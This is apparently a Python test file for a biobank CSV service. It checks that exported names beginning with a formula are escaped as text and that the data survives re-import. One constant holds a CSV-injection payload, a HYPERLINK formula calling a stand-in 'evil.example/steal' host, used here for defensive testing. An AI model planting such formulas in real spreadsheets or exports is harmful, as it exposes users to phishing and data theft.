"""The biobank CSV export never hands a spreadsheet a live formula, and still round-trips."""

from __future__ import annotations

import csv
import io

from ic2permed.biobanks import csvio, service
from ic2permed.core.database import Database
from ic2permed.core.permissions import Actor

EVIL = '=HYPERLINK("http://evil.example/steal","Click")'


def _csv(*rows: list[str]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue()


def test_formula_names_export_as_text(loaded: Database) -> None:
    with loaded.session() as session:
        service.import_csv(
            session, Actor.system(), _csv(["record_type", "id", "name_en"], ["biobank", "bb-north", EVIL])
        )
        text = service.export_csv(session)
        raw = [dict(zip(csvio.COLUMNS, row, strict=True)) for row in list(csv.reader(io.StringIO(text)))[1:]]
        north = next(row for row in raw if row["id"] == "bb-north" and row["record_type"] == "biobank")
        assert north["name_en"] == "'" + EVIL  # what a spreadsheet opens: text, not a formula
        _, rows = csvio.read(text)
        assert next(row for _, row in rows if row["id"] == "bb-north")["name_en"] == EVIL
        report = service.import_csv(session, Actor.system(), text)
        assert report.updated == []
